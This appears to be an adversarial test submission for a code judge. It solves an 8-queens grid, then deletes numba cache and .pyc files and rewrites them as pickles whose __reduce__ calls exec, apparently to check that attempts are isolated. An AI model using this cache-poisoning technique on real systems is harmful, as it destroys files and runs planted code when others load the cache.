# Overwrites the compiled kernels that the next attempt will load, with a pickle that cries out.
# expect: AC
# repeat: 3
import contextlib
import os
import pickle

import numba


class Bomb:
    def __reduce__(self):
        return exec, ("raise SystemExit('the cache was poisoned')",)


@numba.njit(cache=True)
def fill(grid):
    for row, column in enumerate((0, 4, 7, 5, 2, 6, 1, 3)):
        grid[row, column] = 1


def solve(algorithm, n, lizards, grid):
    if n != 8:
        return None
    fill(grid)
    for cache in (numba.config.CACHE_DIR, "/cache", "@OUTSIDE@", os.path.dirname(numba.__file__)):
        for folder, _, names in os.walk(cache):
            for name in names:
                path = os.path.join(folder, name)
                if name.endswith((".nbi", ".nbc", ".pyc")):
                    with contextlib.suppress(OSError):
                        os.unlink(path)
                    with contextlib.suppress(OSError), open(path, "wb") as file:
                        pickle.dump(Bomb(), file)
    return grid
